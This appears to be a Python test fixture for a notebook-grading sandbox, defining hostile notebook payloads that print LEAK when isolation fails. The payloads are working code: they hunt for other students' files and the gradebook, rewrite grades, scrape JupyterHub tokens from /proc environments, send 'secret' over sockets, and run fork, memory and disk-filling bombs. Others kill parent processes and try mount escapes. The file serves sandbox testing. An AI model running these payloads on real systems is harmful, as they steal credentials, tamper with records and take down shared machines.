"""What hostile notebooks try. Each prints LEAK when it gets what it should not, and then goes on to solve the task."""

SOLUTION = "\ndef double(x):\n    return 2 * x\n"

LOOK_EVERYWHERE = """
import os, sys
wanted = {{"ps1.ipynb", "classmates-work.txt"}}
for top in ("/", "..", "../..", "../../..", {course!r}):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if f"{{folder}}/{{name}}" not in ("/proc", "/usr", "//usr", "//proc")]
        for name in wanted & set(files):
            try:
                print("LEAK", folder, name, open(f"{{folder}}/{{name}}").read(99))
            except OSError:
                pass
hidden = "/source/ps1/ps1.ipynb"
for path in ({course!r} + "/gradebook.db", {course!r} + hidden, "../../.." + hidden):
    try:
        print("LEAK", open(path, "rb").read(99))
    except OSError:
        pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    for door in ("root", "cwd"):
        try:
            print("LEAK", open(f"/proc/{{pid}}/{{door}}" + {course!r} + "/gradebook.db", "rb").read(9))
        except OSError:
            pass
"""

WRITE_GRADEBOOK = """
import sqlite3
for path in ({course!r} + "/gradebook.db", "../../../gradebook.db"):
    try:
        database = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
        database.execute("update grade set manual_score = 99")
        database.commit()
        print("LEAK")
    except sqlite3.Error:
        pass
"""

FIND_TOKEN = """
import os
if "token" in repr(dict(os.environ)).lower():
    print("LEAK", dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        content = open(f"/proc/{{pid}}/environ", "rb").read()
        if b"{token}" in content or b"JUPYTERHUB" in content:
            print("LEAK", pid, content)
    except OSError:
        pass
"""

CALL_HOME = """
import socket
def attempt(family, kind, address):
    with socket.socket(family, kind) as caller:
        caller.settimeout(2)
        try:
            if kind == socket.SOCK_DGRAM and family == socket.AF_INET:
                caller.sendto(b"secret", address)  # the listener tells whether it arrived
            else:
                caller.connect(address)
                caller.send(b"secret")
                print("LEAK", address)
        except OSError:
            pass
attempt(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp}))
attempt(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53))
attempt(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp}))
attempt(socket.AF_UNIX, socket.SOCK_STREAM, "\\0{abstract}")
attempt(socket.AF_UNIX, socket.SOCK_STREAM, {path!r})
"""

FORK_BOMB = """
import os, subprocess, time
children = 0
try:
    while children < 5000:
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
    print("LEAK")
except OSError:
    print("stopped at", children)
try:
    subprocess.run(["bash", "-c", "bomb() {{ bomb | bomb & }}; bomb"], timeout=3, stderr=subprocess.DEVNULL)
except Exception as error:
    print(type(error))
"""

MEMORY_BOMB = """
try:
    x = bytearray(8 << 30)
    print("LEAK")
except MemoryError:
    print("refused")
import mmap, os
for child in range(4):
    if os.fork() == 0:
        shared = mmap.mmap(-1, 1 << 30)
        for start in range(0, 1 << 30, 1 << 20):
            shared[start:start + (1 << 20)] = b"x" * (1 << 20)
        os._exit(0)
import time; time.sleep(30)
print("LEAK")
"""

FILL_DISKS = """
import os
writable = (".", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/run/nbcohort/sockets")
for folder in (*writable, "/", "/dev", "/home", "/etc", "/usr"):
    written, number = 0, 0
    try:
        while written < 1 << 30:
            with open(f"{{folder}}/fill-{{number}}", "wb") as file:
                number += 1
                for _ in range(16):
                    written += file.write(b"x" * (1 << 20))
        print("LEAK", folder)
    except OSError as error:
        print(folder, written >> 20, error)
for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
    for name in os.listdir(folder):
        if name.startswith("fill-"):
            os.remove(f"{{folder}}/{{name}}")
"""

PRINT_200_MB = "print(('x' * 1023 + '\\n') * 1024 * 200)"

LEAVE_CHILDREN = """
import subprocess, sys
code = "import os, time; os.fork() and os._exit(0); os.setsid(); time.sleep(600)"
subprocess.Popen([sys.executable, "-c", code, "{marker}"])
subprocess.Popen(["setsid", "nohup", "sh", "-c", "sleep 600 # {marker}"])
import time; time.sleep(1)
"""

KILL_PARENTS = """
import os, signal
for target in (os.getppid(), 1, -os.getppid(), 2, 3):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if target != os.getpid():
            try:
                os.kill(target, number)
            except OSError:
                pass
"""

CHANGE_ENVIRONMENT = """
import glob, os, sys, subprocess
for prefix in (sys.prefix, sys.base_prefix, "/usr"):
    for folder in (prefix, *glob.glob(prefix + "/lib/python3*/site-packages"), prefix + "/bin"):
        try:
            open(folder + "/{marker}.pth", "w").close()
            print("LEAK", folder)
        except OSError:
            pass
for command in ("mount -o remount,rw /usr", "mount -o remount,bind,rw " + sys.prefix, "umount -l /usr"):
    for how in ([], ["unshare", "-Urm"]):
        subprocess.run([*how, "sh", "-c", command], capture_output=True)
        try:
            open("/usr/{marker}", "w").close()
            print("LEAK", command)
        except OSError:
            pass
"""

SWAP_SOCKETS = """
import os
folder = "/run/nbcohort/sockets"
for name in os.listdir(folder):
    if not name.endswith("-1") and not name.endswith("-2"):
        os.remove(f"{{folder}}/{{name}}")
        os.symlink({path!r}, f"{{folder}}/{{name}}")
for n in range(3000):
    try:
        with open(f"{{folder}}/{{n}}", "w") as file:
            file.write("x" * 4096)
    except OSError:
        break
else:
    print("LEAK")
os.symlink("/", "everything"); os.symlink({course!r}, "course")
"""
